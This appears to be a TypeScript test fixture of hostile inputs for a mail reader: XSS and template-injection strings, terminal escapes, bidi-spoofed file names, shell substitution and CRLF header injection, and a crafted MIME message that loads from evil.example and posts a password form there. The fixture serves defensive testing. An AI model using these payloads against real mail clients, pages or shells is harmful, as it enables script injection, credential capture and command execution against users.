/** Texts that attack a reader of mail: markup, sequences of terminals, bidirectional controls, and templates of other systems. */

/** Texts for replies, reasons and queries. */
export const HOSTILE_TEXTS: readonly string[] = [
  '"><img src=x onerror=pwned()>',
  "'><svg onload=pwned()>",
  '</script><script>pwned()</script>',
  '</title></textarea></noscript><iframe srcdoc="<script>parent.pwned()</script>">',
  '<a href="javascript:pwned()">x</a><base href="//evil.example/"><form action="//evil.example/">',
  '" onfocus="pwned()" autofocus x="',
  '&lt;img src=x onerror=pwned()&gt;&#60;script&#62;',
  '<!-- --!> <![CDATA[ ]]> <?php pwned() ?> {{constructor.constructor("pwned()")()}} ${pwned()} `pwned`',
  '\u001b[2J\u001b]0;pwned\u0007\u001b]8;;http://evil.example\u0007link\u009b31m',
  '\u202egnp.exe\u2066\u2069\u200b\u200d\ufeff\u2028\u2029\u3164\u{e0041}',
  '<\u0000script>\u0000pwned()\u007f\b\b\b',
  `$(touch pwned); \`touch pwned\` | 'quoted' "double" \\ %00 %0d%0aSet-Cookie: pwned=1`,
  `${'<b>'.repeat(400)}${'long '.repeat(400)}`,
]

/** The texts of which a mail address can consist: printable ASCII, at most 64 octets with quotes. */
const inAddress = HOSTILE_TEXTS.filter((text) => /^[ -~]{1,40}$/.test(text))

/** Addresses with a quoted local part (RFC 5321 §4.1.2). */
export const HOSTILE_ADDRESSES: readonly string[] = [
  ...inAddress.map((text) => `"${text.replace(/["\\]/g, '\\$&')}"@shop.example`),
  '"grüße<b>"@shop.example',
]

/** xtext of a hostile original recipient (RFC 3461 §4). */
export const HOSTILE_ORCPT = [...Buffer.from('"><img src=x onerror=pwned()>')]
  .map((byte) => `+${byte.toString(16).toUpperCase().padStart(2, '0')}`)
  .join('')

/** Parts that run, load and imitate something when a reader of mail renders them, with hostile names. */
export const HOSTILE_PARTS = Buffer.from(
  [
    'From: "</code></pre><script>pwned()</script>" <app@shop.example>',
    'Subject: =?utf-8?b?PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+4oCu?=',
    'Content-Type: multipart/mixed; boundary=b',
    '',
    '--b',
    'Content-Type: text/plain; charset=utf-8',
    '',
    '</code></pre><img src=x onerror=pwned()>\u202e\u001b[2J',
    '--b',
    'Content-Type: text/html; charset=utf-8',
    '',
    '<html><head><base href="//evil.example/"><style>@import "//evil.example/x.css";</style></head><body onload="pwned()">',
    '<img src="http://evil.example/pixel.png"><script>pwned()</script><iframe src="//evil.example"></iframe>',
    '<form action="//evil.example"><input name=password></form></code></pre></body></html>',
    '--b',
    'Content-Type: image/svg+xml; name="<svg onload=pwned()>.svg"',
    `Content-Disposition: attachment; filename="<svg onload=pwned()>\u202egnp.svg"`,
    '',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"/>',
    '--b--',
    '',
  ].join('\r\n'),
)

/** A header of a megabyte, with hostile fields and bytes that are no UTF-8. */
export const HOSTILE_CONTENT = Buffer.concat([
  Buffer.from(`Subject: </script><script>pwned()</script> \u001b[2J \u202e\r\nMessage-ID: <"><img/src=x/onerror=pwned()>@x>\r\nX-Bytes: `),
  Buffer.from([0xff, 0xfe, 0xc0, 0xaf, 0xed, 0xa0, 0x80, 0x80]),
  Buffer.from('\r\n'),
  ...Array.from({ length: 1_100 }, (_, i) => Buffer.from(`X-Long-${i}: ${'<i>'.repeat(300)}\r\n`)),
  Buffer.from('\r\n<script>pwned()</script>\u001b[2J'),
  Buffer.from([0xff, 0xfe]),
  Buffer.from('\r\n'),
])
